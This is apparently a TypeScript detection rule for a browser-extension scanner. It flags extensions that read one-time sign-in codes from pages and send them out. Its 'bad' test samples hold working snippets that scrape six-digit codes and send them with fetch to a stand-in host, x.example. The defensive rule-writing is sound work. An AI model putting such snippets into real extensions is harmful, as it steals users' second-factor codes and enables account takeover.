import { flowsOf } from '../../extension/flowsOf.ts';
import { ONE_TIME_CODE } from '../../extension/oneTimeCodes.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sample } from '../../testing/sample.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';
import { contentExample } from './checkScripts.ts';

export const oneTimeCodesRead = defineRule({
  id: 'one-time-codes-read',
  title: 'Reads one-time codes from pages and sends them on',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1111/'],
  why: 'Together with a password, a one-time code opens the account. It is the last thing that keeps others out.',
  remedy: 'Fill codes in on the device and never send them.',
  cap: { grade: 'F', reason: 'it sends typed text or sign-in data to others', from: 'critical' },
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      flow.source.label === ONE_TIME_CODE ? sendingWeight(facts, flow) : undefined,
    ),
  examples: {
    bad: [
      sample({
        content:
          'setInterval(() => { for (const row of document.querySelectorAll("tr")) { const m = row.innerText.match(/(?:code|OTP|verification)[^0-9]{0,40}(\\d{6})/i); if (m) chrome.runtime.sendMessage({ code: m[1] }); } }, 2000);',
        background: 'chrome.runtime.onMessage.addListener(({ code }) => { fetch("https://x.example/?c=" + code); });',
      }),
      contentExample(
        'const m = /one-time code: (\\d{6})/.exec(document.body.innerText); if (m) fetch("https://x.example/o?c=" + m[1]);',
      ),
    ],
    good: [
      sample({
        content:
          'const m = document.body.innerText.match(/verification code (\\d{6})/i); if (m) chrome.runtime.sendMessage({ code: m[1] });',
        background:
          'chrome.runtime.onMessage.addListener(({ code }) => { chrome.action.setBadgeText({ text: code }); fetch("https://api.example.com/ping"); });',
      }),
      contentExample(
        'const m = /verification code (\\d{6})/i.exec(document.body.innerText); if (m) document.querySelector("[autocomplete=one-time-code]").value = m[1];',
      ),
      contentExample(
        'const zip = /postcode[: ]+(\\d{5})/i.test(text); const m = document.title.match(/(\\d{6})/); if (m) chrome.runtime.sendMessage({ order: m[1], zip });',
      ),
    ],
  },
});
